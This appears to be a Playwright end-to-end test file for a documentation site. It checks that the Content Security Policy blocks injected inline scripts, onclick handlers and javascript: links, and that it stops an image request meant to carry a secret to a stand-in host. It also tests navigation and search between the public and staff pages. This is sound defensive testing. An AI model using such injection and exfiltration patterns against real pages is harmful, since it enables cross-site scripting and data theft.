import {haveSession} from './support/haveSession';
import {SearchBox} from './support/SearchBox';
import {expect, hydrated, test} from './support/test';

test('what gets into a page does not run, and carries nothing away', async ({page, problems}) => {
  problems.expect(/Content Security Policy|elsewhere\.test/);
  let asked = false;
  await page.route('https://elsewhere.test/**', (route) => {
    asked = true;
    return route.abort();
  });
  await page.goto('/docs/shop');
  await hydrated(page);
  const pwned = () => page.evaluate(() => 'pwned' in window);

  await test.step('an inline script', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
    });
    expect(await pwned()).toBe(false);
  });

  await test.step('an event handler', async () => {
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<b id="b" onclick="pwned = true">b</b>'),
    );
    await page.locator('#b').dispatchEvent('click');
    expect(await pwned()).toBe(false);
  });

  await test.step('a javascript: link', async () => {
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="a" href="javascript:void(window.pwned = true)">a</a>',
      );
      document.getElementById('a')!.click();
    });
    await expect(page).toHaveURL('/docs/shop');
    expect(await pwned()).toBe(false);
  });

  await test.step('a picture that would carry data to another host', async () => {
    const loaded = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve(true);
          picture.onerror = () => resolve(false);
          picture.src = 'https://elsewhere.test/?secret';
        }),
    );
    expect(loaded).toBe(false);
    expect(asked).toBe(false);
  });
});

test('public pages, which may not run what is decrypted, lead to staff pages as documents of their own, and back, and search them', async ({
  page,
}) => {
  const heading = (name: string) => page.getByRole('heading', {level: 1, name});
  const mark = () => page.evaluate(() => document.documentElement.setAttribute('data-same-document', ''));
  const marked = page.locator('html[data-same-document]');
  await haveSession(page);
  await page.goto('/docs/shop');
  await hydrated(page);
  await mark();

  await test.step('the search finds what is there, and leads to it', async () => {
    const search = new SearchBox(page);
    await search.ask('look-back');
    const hit = search.options.filter({hasText: 'Grouping and look-back'}).first();
    await expect(hit).toBeVisible();
    await expect(marked).toHaveCount(1);
    await hit.click();
    await expect(page).toHaveURL('/docs/staff/severity-guide#grouping-and-look-back');
    await expect(page.locator('#grouping-and-look-back')).toBeInViewport();
    await expect(marked).toHaveCount(0);
  });

  await test.step('links and the history', async () => {
    await page.goto('/docs/shop');
    await hydrated(page);
    await mark();
    await page.locator('.navbar').getByRole('link', {name: 'Staff Portal'}).click();
    await expect(heading('Watch Room')).toBeVisible();
    await expect(marked).toHaveCount(0);
    await mark();
    await page.locator('.theme-doc-sidebar-menu').getByRole('link', {name: 'Severity Guide'}).click();
    await expect(heading('Severity Guide')).toBeVisible();
    await page.goBack();
    await expect(heading('Watch Room')).toBeVisible();
    await expect(marked).toHaveCount(1);
    await page.goBack();
    await expect(heading('Chandlery')).toBeVisible();
    await page.goForward();
    await expect(heading('Watch Room')).toBeVisible();
  });
});
